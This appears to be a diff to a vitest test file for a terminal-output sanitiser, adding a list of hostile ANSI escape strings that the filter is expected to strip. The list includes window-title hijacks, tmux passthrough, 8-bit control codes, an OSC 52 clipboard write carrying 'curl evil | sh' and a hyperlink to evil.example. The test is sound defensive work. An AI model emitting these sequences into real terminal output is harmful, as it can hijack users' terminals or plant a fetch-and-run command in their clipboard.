@@ -1,9 +1,24 @@
 import { describe, expect, it } from "vitest";
-import { HOSTILE } from "./ansi.test.js";
 import { ReplayFilter, replaySafe } from "./replay-safe.js";
 
 const ESC = "\x1b";
 const BEL = "\x07";
+
+/** Hostile strings (core/ansi.test.ts has them for terminalText): each one did something to a terminal when printed raw. */
+const HOSTILE: ReadonlyArray<readonly [string, string]> = [
+  ["a stray ESC before a CSI that hides an OSC", `${ESC}${ESC}[m]0;pwned-title${BEL}`],
+  ["OSC 0 (window title)", `${ESC}]0;pwned-title${BEL}`],
+  ["OSC 2 ended by ST", `${ESC}]2;pwned-title${ESC}\\`],
+  ["OSC 52 (write the clipboard)", `${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${BEL}`],
+  ["OSC 8 hyperlink", `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`],
+  ["DCS (tmux passthrough)", `${ESC}Ptmux;${ESC}${ESC}]0;pwned${BEL}${ESC}\\`],
+  ["8-bit CSI (U+009B)", "\u009b2J\u009b1Apwned"],
+  ["8-bit OSC (U+009D) ended by 8-bit ST", "\u009d0;pwned-title\u009c"],
+  ["every C1 control as a character", Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join("x")],
+  ["BEL, NUL, DEL, vertical tab, form feed", `a${BEL}b\0c\x7fd\x0be\x0cf`],
+  ["an unterminated OSC", `${ESC}]0;title without end\nnext line`],
+  ["nested introducers", `${ESC}[${ESC}]${ESC}P${ESC}${ESC}[[m`],
+];
 
 /**
  * What replaySafe may let through: printable text, \t \n \r \b, and the
